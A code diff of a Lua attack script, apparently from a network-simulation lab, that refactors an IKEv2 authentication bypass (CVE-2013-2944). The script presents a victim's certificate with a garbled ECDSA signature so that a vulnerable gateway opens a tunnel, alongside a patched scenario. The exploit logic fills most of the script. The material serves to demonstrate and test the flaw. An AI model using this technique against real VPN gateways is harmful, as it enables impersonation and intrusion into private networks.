@@ -6,6 +6,7 @@ attack = {
   position = "off-path",
   needs = "the victim's certificate, without its private key",
   source = "CVE-2013-2944; RFC 7427, 3",
+  unseen = "the certificate and what stands in the signature's place are inside the encrypted IKE_AUTH; only the gateway can look at them",
   shows = {
     vulnerable = "the garbled signature counts: the gateway believes that the victim has called, and opens a tunnel",
     hardened = "the signature does not verify: AUTHENTICATION_FAILED",
@@ -13,43 +14,26 @@ attack = {
   scenarios = { vulnerable = "certificate-thief", hardened = "certificate-thief-patched" },
 }
 
+local caller = library "caller"
+
 -- Parameters: target, own, victim = the node whose certificate it holds, id = its identity, first, last = addresses it asks for
 local p, me = nil, nil
 local goal = "be somebody else"
-local proposal = { number = 1, protocol = 1, spi = "", transforms = {
-  { type = 1, id = 20, key_bits = 256 }, { type = 2, id = 5 }, { type = 4, id = 31 } } }
-local esp_proposal = { number = 1, protocol = 3, transforms = { { type = 1, id = 20, key_bits = 256 }, { type = 5, id = 0 } } }
 
 function on_start(params)
   p = params
   assert(p.target and p.own and p.victim and p.id, "parameters target, own, victim, id")
   timer.after("1s", "begin")
 end
-
-local function send(note, payload)
-  inject{ src = p.own, src_port = 500, dst = p.target, dst_port = 500, protocol = "IKE", note = note, payload = payload }
-end
-
-function on_timer()
-  me = { pair = crypto.key_pair("x25519"), nonce = crypto.random(32), spi = bytes.hex(crypto.random(8)) }
-  me.request = ike.encode{ spi_i = me.spi, spi_r = "0000000000000000", exchange = 34, initiator = true, message_id = 0,
-    payloads = { ike.sa(proposal), ike.ke(me.pair), ike.nonce(me.nonce), ike.notify(16431, "\0\2\0\3\0\4\0\5") } }
-  send("IKE_SA_INIT, under its own address", me.request)
-end
+function on_timer() me = caller.call(p) end
 
 on({ exchange = "IKE_SA_INIT", response = true }, function(_, message)
-  if not me or message.spi_i ~= me.spi or not find(message, "KE") then return end
-  me.suite = ike.suite(find(message, "SA").proposals[1])
-  me.keys = ike.keys(me.suite, { ni = me.nonce, nr = find(message, "Ni/Nr").data, shared = crypto.shared(me.pair, find(message, "KE").data),
-    spi_i = me.spi, spi_r = message.spi_r })
-  ring.ike(me.spi, me.suite, me.keys)
+  if not me or not caller.answered(me, message) then return end
   -- ecdsa-with-SHA256 by name (RFC 7427, A.3.2), and eight octets that are no signature of any kind
   local identifier = bytes.from_hex("300a06082a8648ce3d040302")
-  esp_proposal.spi = crypto.random(4)
-  send("IKE_AUTH with " .. p.victim .. "'s certificate and a garbled signature", ike.seal({ spi_i = me.spi, spi_r = message.spi_r, exchange = 35,
-    initiator = true, message_id = 1, payloads = {
-      ike.id("i", 2, p.id), ike.cert(held("cert:" .. p.victim)), ike.auth(14, string.char(#identifier) .. identifier .. "garbage!"),
-      ike.sa(esp_proposal), ike.ts("i", p.first or "10.8.0.66", p.last or "10.8.0.66"), ike.ts("r", "10.2.0.0", "10.2.0.255") } }, me.suite, me.keys))
+  caller.request(me, 35, 1, { ike.id("i", 2, p.id), ike.cert(held("cert:" .. p.victim)),
+    ike.auth(14, string.char(#identifier) .. identifier .. "garbage!"), caller.child(p.first or "10.8.0.66", p.last) },
+    "IKE_AUTH with " .. p.victim .. "'s certificate and a garbled signature")
 end)
 
 on({ exchange = "IKE_AUTH", response = true }, function(packet)
